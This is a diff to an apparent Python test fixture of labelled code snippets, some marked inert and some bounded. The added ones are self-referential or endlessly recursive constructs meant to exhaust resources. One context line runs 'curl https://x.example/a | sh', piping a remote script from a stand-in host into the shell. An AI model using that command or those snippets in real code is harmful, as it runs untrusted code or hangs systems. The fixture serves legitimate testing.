@@ -56,6 +56,10 @@ INERT = {
     "a guarded script": "import os\nif __name__ == '__main__':\n    os.system('curl https://x.example/a | sh')\n",
     "a template of code": "S = 'def f({0}):\\n    return {0}\\n'\nscope = {}\nexec(S.format('left'), scope)\n",
     "a process with a fixed command": "import subprocess\n\n\ndef version():\n    return subprocess.run(['git', '--version'])\n",
+    "a match over objects": "def f(x):\n    match x:\n        case str() as s:\n            return s\n        case [a, *_]:\n"
+    "            return f(a)\nf(['a'])\n",
+    "a configuration of loggers": "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'class': "
+    "'logging.StreamHandler'}}, 'filters': {'f': {'()': 'logging.Filter', 'name': 'exec'}}})\n",
     "a decoded picture": "import base64\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ')\n",
 }
 
@@ -92,6 +96,26 @@ BOUNDED = {
     "decoding of itself": "s = 'exec(s)'\nexec(s)\n",
     "a quine": "s = 's = %r\\nexec(s %% s)'\nexec(s % s)\n",
     "nested comprehensions": "x = [[[a for a in range(500)] for b in range(500)] for c in range(500)]\n",
+    "a number times nothing": "x = 3 * None\ny = {} * 2\nz = None * None\n",
+    "a codec that asks itself": "import codecs\ndef d(b, e='strict'):\n    return b.decode('odd'), 1\n"
+    "codecs.register(lambda n: codecs.CodecInfo(d, d))\nb'x'.decode('odd')\n",
+    "a search that searches": "import codecs\ncodecs.register(lambda n: codecs.lookup(n))\ncodecs.lookup('odd')\n",
+    "a class body that asks itself": "class B(dict):\n    def __missing__(self, n):\n        return self[n + 'x']\n"
+    "class M(type):\n    @classmethod\n    def __prepare__(m, n, b):\n        return B()\nclass C(metaclass=M):\n    a\n    b\n",
+    "a metaclass that asks itself": "class M(type):\n    def __instancecheck__(c, v):\n        return isinstance(v, c)\n"
+    "class C(metaclass=M):\n    pass\nisinstance(1, C)\n",
+    "a pattern that calls itself": "def f(x):\n    match x:\n        case [a, *b]:\n            return f(a) + f(b)\n"
+    "        case {'a': c, **d}:\n            return f(c) + f(d)\nf(g())\nf([[1, 2], [3, [4]]])\n",
+    "a configuration that holds itself": "import logging.config\nc = {'()': f}\nc['x'] = c\nlogging.config.dictConfig(c)\n",
+    "a hint that asks for hints": "import typing\nclass A:\n    a: 'typing.get_type_hints(A)'\ntyping.get_type_hints(A)\n",
+    "a callback that comes back": "import asyncio\nl = asyncio.new_event_loop()\ndef f():\n    l.call_later(1, f)\n"
+    "    l.call_soon(f)\nf()\n",
+    "code that is its own": "def f():\n    return f()\nf.__code__ = f.__code__.replace(co_names=('f',))\nf()\n",
+    "a field that formats itself": "class F:\n    def __format__(self, s):\n        return '{:x}'.format(self)\n"
+    "'{}'.format(F())\n",
+    "a dictionary of a kind that holds itself": "class D(dict):\n    pass\nd = D()\nd['d'] = d\nexec(d)\n",
+    "a hook for everything": "import json\nf = lambda d: json.loads('{}', object_hook=f)\n"
+    "json.loads('[' + '{},' * 9000 + '1]', object_hook=f)\n",
     "a sort with a key": "sorted(range(10 ** 9), key=lambda n: -n)\n",
 }
 
